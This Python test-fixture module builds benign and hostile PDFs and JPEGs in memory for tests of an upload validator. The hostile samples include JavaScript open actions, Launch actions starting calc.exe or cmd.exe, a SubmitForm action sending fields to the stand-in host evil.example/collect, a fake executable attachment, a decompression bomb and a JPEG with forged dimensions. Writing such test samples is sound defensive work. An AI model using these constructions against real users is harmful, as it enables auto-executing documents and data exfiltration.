"""Good and hostile PDFs and JPEGs for the upload checks (A-6, A-7, SEC-4), built with pikepdf
and Pillow in memory; nothing is read from disk."""

from __future__ import annotations

import io
import struct
import zlib

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image


def upload(data: bytes, name: str, content_type: str = "application/pdf") -> SimpleUploadedFile:
    """A Django upload as a form would receive it (the content type is the client's claim)."""
    return SimpleUploadedFile(name, data, content_type=content_type)


class ReadForbidden(io.BytesIO):
    """A file whose content must not be read: the size alone must refuse it."""

    def __init__(self, size: int, name: str = "huge.pdf") -> None:
        super().__init__(b"")
        self.size = size
        self.name = name

    def read(self, *args, **kwargs):
        raise AssertionError("read() was called on a file that is too large")

    def chunks(self, *args, **kwargs):
        raise AssertionError("chunks() was called on a file that is too large")


def _save(pdf: pikepdf.Pdf, **options) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def _text_page(pdf: pikepdf.Pdf, text: str) -> None:
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    content = pdf.make_stream(f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode())
    page = pikepdf.Page(
        Dictionary(
            Type=Name.Page,
            MediaBox=Array([0, 0, 595, 842]),
            Resources=Dictionary(Font=Dictionary(F1=font)),
            Contents=content,
        )
    )
    pdf.pages.append(page)


def good_pdf(pages: int = 2, *, object_streams: bool = False, padding: int = 0) -> bytes:
    """A plain PDF with text pages; ``padding`` adds an incompressible image of that many bytes
    (a scanned page, roughly) so sizes can be made realistic."""
    pdf = pikepdf.new()
    for number in range(pages):
        _text_page(pdf, f"Document page {number + 1}")
    if padding:
        import os

        side = max(int((padding / 3) ** 0.5), 1)
        raw = os.urandom(side * side * 3)
        image = pdf.make_stream(
            raw,
            Type=Name.XObject,
            Subtype=Name.Image,
            Width=side,
            Height=side,
            ColorSpace=Name.DeviceRGB,
            BitsPerComponent=8,
        )
        pdf.pages[0].Resources.XObject = Dictionary(Im1=image)
    mode = pikepdf.ObjectStreamMode.generate if object_streams else None
    return _save(pdf, object_stream_mode=mode) if mode else _save(pdf)


def encrypted_pdf(*, user: str = "secret", owner: str = "owner", **allow) -> bytes:
    """A PDF with security settings: a user password (opens only with it) and/or an owner
    password with permissions (``allow`` as pikepdf.Permissions fields)."""
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    return _save(
        pdf,
        encryption=pikepdf.Encryption(
            owner=owner, user=user, R=6, allow=pikepdf.Permissions(**allow)
        ),
    )


def javascript_open_action_pdf() -> bytes:
    """The catalog runs a script when the file is opened (direct action dictionary)."""
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert('hello');"))
    return _save(pdf)


def javascript_in_object_stream_pdf() -> bytes:
    """A link annotation whose action is a script, stored compressed inside an object stream
    (so the bytes of the file never show ``/JS``)."""
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    action = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("this.print();")))
    annotation = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 100, 100]), A=action)
    )
    pdf.pages[0].Annots = Array([annotation])
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def additional_actions_pdf() -> bytes:
    """A page with /AA: an action run when the page opens, without a click."""
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("1;")))
    return _save(pdf)


def javascript_name_tree_pdf() -> bytes:
    """Document-level JavaScript in the catalog's name tree."""
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("1;")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def launch_pdf() -> bytes:
    """Opening the file asks the viewer to start a program."""
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.Launch, F=String("C:\\Windows\\System32\\calc.exe"))
    )
    return _save(pdf)


def embedded_file_pdf() -> bytes:
    """A document-level attachment (/EmbeddedFiles name tree)."""
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really")
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def file_attachment_annotation_pdf() -> bytes:
    """A /FileAttachment annotation on a page (no document-level name tree)."""
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    stream = pdf.make_stream(b"hidden", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("a.txt"), EF=Dictionary(F=stream))
    annotation = Dictionary(
        Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=spec
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([annotation]))
    return _save(pdf)


def many_objects_pdf(count: int) -> bytes:
    """A valid PDF with ``count`` extra indirect objects (an "absurd object count" stand-in)."""
    pdf = pikepdf.open(io.BytesIO(good_pdf(pages=1)))
    pdf.Root.Junk = Array([pdf.make_indirect(Dictionary(N=i)) for i in range(count)])
    return _save(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def inflate_bomb_pdf(inflated: int) -> bytes:
    """A tiny PDF whose object stream inflates to ``inflated`` bytes (a zip-bomb of sorts).

    Written by hand: an xref stream pointing at object 5 inside object stream 4.
    """
    header = b"5 0 "
    payload = b"<< /Pad (" + b" " * inflated + b") >>"
    compressed = zlib.compress(header + payload, 9)
    parts: list[bytes] = [b"%PDF-1.7\n"]
    offsets: dict[int, int] = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = sum(len(p) for p in parts)
        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R /Extra 5 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>")
    add(
        4,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(compressed))
        + compressed
        + b"\nendstream",
    )
    rows = [b"\x00" + struct.pack(">I", 0) + b"\xff\xff"]
    rows += [b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (1, 2, 3, 4)]
    rows.append(b"\x02" + struct.pack(">I", 4) + b"\x00\x00")
    xref_at = sum(len(p) for p in parts)
    rows.append(b"\x01" + struct.pack(">I", xref_at) + b"\x00\x00")
    table = b"".join(rows)
    parts.append(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    parts.append(b"startxref\n%d\n%%%%EOF\n" % xref_at)
    return b"".join(parts)


# --- Images -----------------------------------------------------------------------------------


def jpeg(width: int = 300, height: int = 400, quality: int = 85, noise: bool = False) -> bytes:
    """A face-photo-sized JPEG (3:4, like the counter photo standard)."""
    if noise:
        import os

        image = Image.frombytes("RGB", (width, height), os.urandom(width * height * 3))
    else:
        image = Image.new("RGB", (width, height), (200, 180, 160))
        for x in range(0, width, 7):
            for y in range(0, height, 5):
                image.putpixel((x, y), ((x * 3) % 256, (y * 5) % 256, (x + y) % 256))
    buffer = io.BytesIO()
    image.save(buffer, format="JPEG", quality=quality)
    return buffer.getvalue()


def jpeg_of_size(target: int) -> bytes:
    """A valid JPEG of exactly ``target`` bytes, padded with comment (COM) segments right after
    the start marker; decoders skip them."""
    base = jpeg()
    pad = target - len(base)
    if pad and pad < 4:
        raise ValueError(f"cannot pad {len(base)} bytes to exactly {target}")
    segments = []
    while pad > 0:
        payload = min(pad - 4, 65533)
        if 0 < pad - (payload + 4) < 4:
            payload -= 4
        segments.append(b"\xff\xfe" + struct.pack(">H", payload + 2) + b"c" * payload)
        pad -= payload + 4
    data = base[:2] + b"".join(segments) + base[2:]
    assert len(data) == target, (len(data), target)
    return data


def png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (300, 400), (10, 20, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small JPEG whose frame header (SOF0) claims ``width`` × ``height``; its scan data is
    for a tiny image, so decoding it would fail: a refusal that names the pixel count proves
    the check came before any decoding."""
    data = bytearray(jpeg(16, 16))
    index = data.find(b"\xff\xc0")
    assert index > 0, "no SOF0 marker"
    # SOF0: FF C0, length (2), precision (1), height (2), width (2)
    struct.pack_into(">HH", data, index + 5, height, width)
    return bytes(data)


# --- Actions and media (SEC-4) -----------------------------------------------------------------


def _link(pdf: pikepdf.Pdf, action: Dictionary, *, subtype=Name.Link) -> None:
    """Put a clickable annotation whose action is ``action`` on the first page."""
    annotation = Dictionary(Type=Name.Annot, Subtype=subtype, Rect=Array([72, 72, 200, 90]))
    annotation.A = action
    pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))


def _with(change) -> bytes:
    pdf = pikepdf.open(io.BytesIO(good_pdf()))
    change(pdf)
    return _save(pdf)


def uri_open_action_pdf() -> bytes:
    """Opening the file opens a web page (no click)."""
    return _with(
        lambda pdf: setattr(
            pdf.Root, "OpenAction", Dictionary(S=Name.URI, URI=String("https://evil.example/"))
        )
    )


def named_open_action_pdf() -> bytes:
    """Opening the file runs a viewer menu command (here: print)."""
    return _with(
        lambda pdf: setattr(pdf.Root, "OpenAction", Dictionary(S=Name.Named, N=Name.Print))
    )


def goto_then_uri_open_action_pdf() -> bytes:
    """A /GoTo on opening — harmless — that chains (/Next) to a web page."""

    def change(pdf):
        pdf.Root.OpenAction = Dictionary(
            S=Name.GoTo,
            D=Array([pdf.pages[0].obj, Name.Fit]),
            Next=Dictionary(S=Name.URI, URI=String("https://evil.example/")),
        )

    return _with(change)


def uri_additional_action_pdf() -> bytes:
    """/AA without a script: the page opens a web page when it is shown."""
    return _with(
        lambda pdf: setattr(
            pdf.pages[0],
            "AA",
            Dictionary(O=Dictionary(S=Name.URI, URI=String("https://evil.example/"))),
        )
    )


def launch_link_pdf() -> bytes:
    """A link that starts a program when clicked."""
    return _with(lambda pdf: _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe"))))


def submit_form_pdf() -> bytes:
    """A form's push button (a widget in /AcroForm) that sends the fields to a web address."""

    def change(pdf):
        _link(
            pdf,
            Dictionary(
                S=Name.SubmitForm,
                F=Dictionary(FS=Name.URL, F=String("https://evil.example/collect")),
            ),
            subtype=Name.Widget,
        )
        button = pdf.pages[0].Annots[0]
        button.FT, button.T, button.Ff = Name.Btn, String("send"), 65536  # push button
        pdf.Root.AcroForm = Dictionary(Fields=Array([button]))

    return _with(change)


def goto_remote_pdf() -> bytes:
    """A link that opens another PDF file (/GoToR)."""
    return _with(
        lambda pdf: _link(
            pdf,
            Dictionary(
                S=Name.GoToR, F=String("\\\\server\\share\\other.pdf"), D=Array([0, Name.Fit])
            ),
        )
    )


def import_data_pdf() -> bytes:
    """A link in an outline item that fills the form from another file (/ImportData)."""

    def change(pdf):
        item = pdf.make_indirect(
            Dictionary(Title=String("Load"), A=Dictionary(S=Name.ImportData, F=String("data.fdf")))
        )
        outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
        item.Parent = outlines
        pdf.Root.Outlines = outlines

    return _with(change)


def goto_embedded_pdf() -> bytes:
    """A link that opens a file embedded in the document (/GoToE)."""
    return _with(
        lambda pdf: _link(
            pdf,
            Dictionary(
                S=Name.GoToE, D=Array([0, Name.Fit]), T=Dictionary(R=Name.C, N=String("a.pdf"))
            ),
        )
    )


def rich_media_pdf() -> bytes:
    """A /RichMedia annotation (Flash or video) with its content."""

    def change(pdf):
        annotation = Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=Array([72, 72, 300, 300]),
            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))),
        )
        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))

    return _with(change)


def sound_pdf() -> bytes:
    """A /Sound annotation that plays a clip."""

    def change(pdf):
        sound = pdf.make_stream(b"\x00" * 64, Type=Name.Sound, R=8000)
        annotation = Dictionary(
            Type=Name.Annot, Subtype=Name.Sound, Rect=Array([72, 72, 90, 90]), Sound=sound
        )
        pdf.pages[0].Annots = pdf.make_indirect(Array([pdf.make_indirect(annotation)]))

    return _with(change)


def movie_action_pdf() -> bytes:
    """A link whose action plays a movie (/Movie action)."""
    return _with(lambda pdf: _link(pdf, Dictionary(S=Name.Movie, T=String("clip"))))


def xfa_pdf() -> bytes:
    """An XFA form: /AcroForm with an /XFA packet (no /JS key anywhere)."""

    def change(pdf):
        packet = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
        pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=packet)

    return _with(change)


def internal_link_pdf() -> bytes:
    """An ordinary document: a link to its second page, an outline entry to its first, and an
    /OpenAction that opens it at page 1 (a destination array) — nothing runs by itself."""

    def change(pdf):
        _link(pdf, Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])))
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])

    return _with(change)


def goto_open_action_pdf() -> bytes:
    """/OpenAction as a /GoTo action to a page (still a plain destination)."""
    return _with(
        lambda pdf: setattr(
            pdf.Root, "OpenAction", Dictionary(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit]))
        )
    )


def web_link_pdf() -> bytes:
    """A link to a web address that the reader has to click (/URI on a link annotation)."""
    return _with(
        lambda pdf: _link(pdf, Dictionary(S=Name.URI, URI=String("https://www.moj.go.jp/isa/")))
    )
